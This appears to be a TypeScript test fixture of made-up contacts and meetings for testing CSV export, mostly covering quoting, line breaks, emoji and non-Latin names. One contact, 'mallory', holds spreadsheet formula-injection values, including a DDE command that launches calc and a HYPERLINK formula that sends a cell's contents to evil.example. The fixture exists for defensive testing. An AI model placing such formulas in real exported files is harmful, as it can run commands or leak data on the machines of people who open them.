/**
 * Made-up people for the export tests: ordinary, hostile (formulas, DDE), with commas, quotes, line
 * breaks, emoji and non-Latin names, shaped by the real schemas so every defaulted field is there.
 * Used by tests only.
 */
import { createDefaultAgenda } from '../../src/core/conversation/agenda.ts';
import { contactSchema, conversationSchema, type Contact, type Conversation } from '../../src/core/contacts/contact.ts';
import type { ExportData } from '../../src/core/export/export-csv.ts';
import { meetingNotesSchema } from '../../src/core/conversation/meeting-notes.ts';

export const sampleNow = new Date('2026-11-23T09:15:00.000Z');

const at = '2026-03-02T10:00:00.000Z';

export function sampleContact(slug: string, name: string, fields: Partial<Contact> = {}): Contact {
  return contactSchema.parse({
    slug,
    name,
    url: `https://www.linkedin.com/in/${encodeURIComponent(slug)}/`,
    status: 'prospect',
    createdAt: at,
    updatedAt: at,
    statusChangedAt: at,
    ...fields,
  });
}

export const hostileName = "=cmd|' /C calc'!A0";
export const hostileHeadline = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")';
export const trickyNotes = 'Met at "DevConf", Berlin; table 3\nAsk about mentoring, then \\ the rest';

export const avery = sampleContact('avery-quinlan', 'Avery Quinlan', {
  headline: 'Design lead, accessibility; talks a lot',
  currentTitle: 'Design Lead',
  currentCompany: 'Fabrikam, Inc.',
  location: 'Berlin, Germany',
  notes: trickyNotes,
  tags: ['mentor', 'alumni, 2019'],
  status: 'scheduled',
  scheduledFor: '2026-11-30T13:00:00.000Z',
  requestedAt: '2026-11-02T08:30:00.000Z',
  employerId: 1,
  connection: 'We both studied at TU Berlin',
  updatedAt: '2026-11-20T16:45:00.000Z',
});

export const hostile = sampleContact('mallory', hostileName, {
  headline: hostileHeadline,
  currentTitle: '-2+3',
  currentCompany: '@SUM(1+1)',
  location: '=2+5',
  notes: '\t+1 555 0100\r\n=1+1',
  tags: ['=evil'],
  status: 'met',
  metAt: '2026-11-22T15:00:00.000Z',
  referredBy: 'avery-quinlan',
});

export const emoji = sampleContact('zoe-unal', '🦊 Zoë Ünal', {
  headline: 'Café owner ☕ — «Grüße» & ünïcödé',
  notes: 'A '.repeat(120) + 'long note with emoji 🎉🎉🎉 and 日本語のテキスト at the end',
  status: 'thanked',
  thankedAt: '2026-11-10T09:00:00.000Z',
  statusChangedAt: '2026-11-10T09:00:00.000Z',
});

export const chinese = sampleContact('li-lei', '李雷', {
  currentCompany: '腾讯',
  currentTitle: '产品经理',
  status: 'requested',
  requestedAt: '2026-11-19T09:00:00.000Z',
  statusChangedAt: '2026-11-19T09:00:00.000Z',
});

export const averyMeeting: Conversation = conversationSchema.parse({
  id: 1,
  slug: 'avery-quinlan',
  scheduledFor: '2026-11-30T13:00:00.000Z',
  heldAt: null,
  minutes: 30,
  agenda: createDefaultAgenda(30),
});

export const malloryMeeting: Conversation = conversationSchema.parse({
  id: 2,
  slug: 'mallory',
  scheduledFor: '2026-11-22T14:30:00.000Z',
  heldAt: '2026-11-22T15:00:00.000Z',
  minutes: 20,
  meetingNotes: meetingNotesSchema.parse({
    slug: 'mallory',
    conversationId: 2,
    notes: '=1+1, said "hi"\nthen left',
    advice: [
      { id: 'note-1', text: '@mention the team' },
      { id: 'note-2', text: 'Publish, often' },
    ],
    nextSteps: [
      { id: 'note-3', text: 'Write the case study', doneAt: '2026-11-23T08:00:00.000Z' },
      { id: 'note-4', text: '-Call back' },
    ],
    clarifyingQuestion: 'Which team; which city?',
    updatedAt: '2026-11-22T16:00:00.000Z',
  }),
});

export const sampleData: ExportData = {
  contacts: [hostile, emoji, avery, chinese],
  conversations: [malloryMeeting, averyMeeting],
  employers: [{ id: 1, name: 'Fabrikam', advocacy: true, motivation: 3, posting: 2, notes: '' }],
};
